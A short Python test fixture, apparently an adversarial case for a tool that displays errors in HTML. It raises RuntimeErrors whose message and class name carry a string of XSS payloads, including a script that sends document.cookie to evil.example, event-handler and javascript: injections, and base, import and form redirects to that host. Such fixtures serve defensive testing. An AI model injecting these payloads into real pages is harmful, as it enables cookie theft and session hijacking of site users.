# /// attack
# outcomes = ["crashed"]
# says = "RuntimeError"
# ///
"""Runs script in whatever page shows it, from every corner that HTML has."""

TEXT = (
    "--><!--]]></script></style></textarea></title></pre></code>"
    "<script>fetch('https://evil.example/?'+document.cookie)</script>"
    "<img src=x onerror=alert(1)><svg onload=alert(1)><svg><style>@import'//evil.example'</style>"
    '<a href="javascript:alert(1)">x</a><base href=//evil.example><meta http-equiv=refresh content=0>'
    '" onmouseover="alert(1)" x="\' autofocus onfocus=\'alert(1)'
    "&lt;script&gt;&#x3c;script&#x3e;<iframe srcdoc='<script>alert(1)</script>'><form action=//evil.example>"
)


def read_queue_twice(queue_name, messages):
    raise type("<script>alert(1)</script>", (RuntimeError,), {})(TEXT)


def read_log_twice(stream_name, messages):
    raise RuntimeError(TEXT)
